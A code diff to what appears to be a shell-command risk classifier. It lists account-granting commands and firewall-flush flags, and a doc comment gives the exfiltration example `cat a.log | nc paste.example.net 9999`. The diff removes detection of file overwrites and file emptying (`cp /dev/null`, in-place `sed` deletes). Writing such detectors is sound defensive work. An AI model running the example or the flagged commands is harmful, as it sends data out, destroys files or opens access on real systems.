@@ -9,7 +9,6 @@ import { type Call, type ShellContext, hasOption, isOpen, operandsOf, placeOfHos
 import { ownThingOf, thingNames } from '../own-things.js'
 import { noteTableActs } from './act-table.js'
 import { COMMAND_LABELS } from './commands.js'
-import { noteEmptied } from './deletions.js'
 
 const { DESTROY } = COMMAND_LABELS
 
@@ -17,8 +16,6 @@ const GRANT_COMMANDS = new Set(
   'useradd adduser usermod groupadd addgroup groupmod gpasswd visudo chsh vipw'.split(' '),
 )
 const CHANGES_SECRETS = new Set(['passwd', 'chpasswd'])
-const WRITES_ALL = new Set(['tee', 'mv', 'sponge', 'truncate'])
-const WRITES_LAST = new Set(['cp', 'ln', 'install', 'scp', 'rsync'])
 const FIREWALLS = new Set(['iptables', 'ip6tables', 'nft', 'ufw', 'firewall-cmd'])
 const OPENS_FIREWALL = /^(?:-F|--flush|-X|--delete-chain|flush|disable|reset|--panic-off)$/
 /** Redis commands that delete keys, or stop the server. */
@@ -95,8 +92,6 @@ export function noteShellActs(call: Call, context: ShellContext): void {
     raiseIrreversible('grant', 'a command that lets everybody write', effects)
   if (name === 'chmod' && operands.slice(1).some((path) => opensAccess(operands[0] ?? '', path)))
     raiseIrreversible('grant', 'a command that lays open what lets others in', effects)
-  for (const path of writtenBy(call, operands)) noteDoor(path, effects)
-  if (emptiesFiles(call, operands)) for (const path of operands.slice(-8)) noteEmptied(path, effects)
 }
 
 /** Records that what a command is fed goes to a host that is not of the organisation: `cat a.log | nc paste.example.net 9999`. */
@@ -283,21 +278,6 @@ export function raiseIrreversible(act: Parameters<typeof does>[1], reason: strin
   raise(effects, DESTROY, reason)
   does(effects, act)
 }
-
-/** Files that a command writes by its operands; at most 8. */
-function writtenBy({ name, args }: Call, operands: readonly string[]): readonly string[] {
-  if (name === 'dd') return args.filter((arg) => arg.startsWith('of=')).map((arg) => arg.slice(3))
-  if (WRITES_LAST.has(name)) return operands.slice(-1)
-  const isInPlace = name === 'sed' && args.some((arg) => /^-[nErsz]*i|^--in-place/.test(arg))
-  return WRITES_ALL.has(name) || isInPlace ? operands.slice(-8) : []
-}
-
-/** `cp /dev/null X`, and a program of `sed` that deletes every line. */
-const emptiesFiles = ({ name, args }: Call, operands: readonly string[]): boolean =>
-  (name === 'cp' && operands[0] === '/dev/null') ||
-  (name === 'sed' &&
-    args.some((arg) => /^-[nErsz]*i/.test(arg)) &&
-    args.some((arg) => /^(?:1,\$)?\s?d$/.test(arg)))
 
 const takesDocuments = (text: string): boolean => text.length <= 4096 && TAKES_DOCUMENTS.test(text)
 
